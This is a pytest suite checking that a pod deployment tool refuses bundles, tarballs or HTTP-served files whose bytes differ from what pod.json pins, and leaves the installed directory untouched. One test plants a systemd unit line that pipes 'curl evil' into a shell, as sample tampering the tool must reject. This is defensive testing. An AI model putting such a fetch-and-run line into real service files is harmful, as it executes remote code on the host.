"""Every byte a host installs is pinned by pod.json: pod files, image.aci as stored, volume files.

A source (bundle directory, bundle tar, web server) that hands over anything
else -- other bytes, more bytes, fewer bytes -- is refused with one line,
and DIR is left exactly as it was.
"""

from __future__ import annotations

import gzip
import json
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest

from podrelease.build.bundles import write_bundle

from hostile import OPS_ONBOARD, one_line_error
from httpservers import StaticServer
from podfactory import ReleaseRoot, standard_pod, tree


def onboard(root: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([OPS_ONBOARD, "--root", str(root), *args], capture_output=True, text=True, timeout=300)


@pytest.fixture(scope="module")
def installed(tmp_path_factory) -> Path:
    """A DIR with //web:frontend 1.2.0 installed; tests deploy 1.3.0 into it and must leave it as it is."""
    release = ReleaseRoot(tmp_path_factory.mktemp("installed") / "release")
    bundle = release.root / "bundles/prod/web/frontend/1.2.0"
    write_bundle(standard_pod(release, "1.2.0"), bundle)
    ops = release.root.parent / "ops"
    result = onboard(ops, "deploy", str(bundle))
    assert result.returncode == 0, result.stderr
    return ops


@pytest.fixture
def bundle(tmp_path) -> Path:
    """A bundle of //web:frontend 1.3.0 whose files are private copies (safe to change)."""
    release = ReleaseRoot(tmp_path / "release")
    linked = tmp_path / "linked"
    write_bundle(standard_pod(release, "1.3.0", image_version="1.3.0"), linked)
    copy = tmp_path / "bundle"
    shutil.copytree(linked, copy)
    return copy


def replace(path: Path, data: bytes) -> None:
    path.unlink()
    path.write_bytes(data)


def deploy_is_refused(ops: Path, source: str) -> str:
    before = tree(ops)
    line = one_line_error(onboard(ops, "deploy", source))
    assert tree(ops) == before
    return line


# -- bundles -------------------------------------------------------------------------


def test_a_changed_pod_file_in_a_bundle_is_refused_and_dir_is_unchanged(installed, bundle):
    replace(bundle / "frontend.service", b"[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n")
    line = deploy_is_refused(installed, str(bundle))
    assert "frontend.service: " in line


def test_a_pod_file_of_the_pinned_size_with_other_bytes_is_refused(installed, bundle):
    data = (bundle / "frontend.service").read_bytes()
    replace(bundle / "frontend.service", data.upper())
    line = deploy_is_refused(installed, str(bundle))
    assert "frontend.service: sha512 is" in line


def test_a_recompressed_image_aci_holding_the_same_image_is_refused(installed, bundle):
    aci = bundle / "frontend/image.aci"
    with gzip.open(aci) as f:
        tar = f.read()
    replace(aci, gzip.compress(tar, compresslevel=1, mtime=0))
    line = deploy_is_refused(installed, str(bundle))
    assert "frontend/image.aci: " in line
    assert "pod.json pins" in line


def test_zero_padding_after_a_pinned_image_aci_is_refused(installed, bundle):
    # gzip(1) ignores trailing zeros, so the image id still matches: only the pin sees them
    aci = bundle / "frontend/image.aci"
    replace(aci, aci.read_bytes() + bytes(4096))
    line = deploy_is_refused(installed, str(bundle))
    assert "frontend/image.aci: more than the" in line and "bytes pod.json pins" in line


def test_a_bundle_tar_with_a_changed_pod_file_is_refused(installed, bundle, tmp_path):
    replace(bundle / "frontend.service", b"changed\n")
    tar_path = tmp_path / "bundle.tar"
    with tarfile.open(tar_path, "w") as tar:
        tar.add(bundle, arcname="bundle")
    line = deploy_is_refused(installed, str(tar_path))
    assert "frontend.service: " in line


def test_a_bare_pod_file_path_in_pod_json_is_refused_naming_the_key(installed, bundle):
    doc = json.loads((bundle / "pod.json").read_text())
    doc["files"] = [f["path"] for f in doc["files"]]
    replace(bundle / "pod.json", json.dumps(doc).encode())
    line = deploy_is_refused(installed, str(bundle))
    assert "files[0]: 'frontend.service' is a bare path" in line


# -- HTTP ----------------------------------------------------------------------------


@pytest.fixture
def served(tmp_path):
    """A release root with //web:frontend 1.3.0, served over HTTP; (root, pod directory, URL of pod.json)."""
    release = ReleaseRoot(tmp_path / "site")
    pod_dir = standard_pod(release, "1.3.0", image_version="1.3.0")
    with StaticServer(release.root) as server:
        yield release.root, pod_dir, server.url + "/channels/prod/web/frontend/1.3.0/pod.json"


def test_a_pod_file_served_with_other_bytes_is_refused_and_dir_is_unchanged(installed, served):
    _, pod_dir, url = served
    replace(pod_dir / "frontend.service", b"[Service]\nExecStart=/bin/false\n")
    line = deploy_is_refused(installed, url)
    assert "frontend.service: " in line


def test_a_pod_file_served_longer_than_pinned_is_cut_off_at_its_size(installed, served):
    _, pod_dir, url = served
    replace(pod_dir / "frontend.service", (pod_dir / "frontend.service").read_bytes() + bytes(8 << 20))
    line = deploy_is_refused(installed, url)
    assert "frontend.service: more than the" in line


def test_an_image_aci_served_recompressed_is_refused(installed, served):
    root, _, url = served
    aci = root / "images/web/frontend/1.3.0/image.aci"
    with gzip.open(aci) as f:
        tar = f.read()
    replace(aci, gzip.compress(tar, compresslevel=9, mtime=0))
    line = deploy_is_refused(installed, url)
    assert "frontend/image.aci: " in line and "pod.json pins" in line
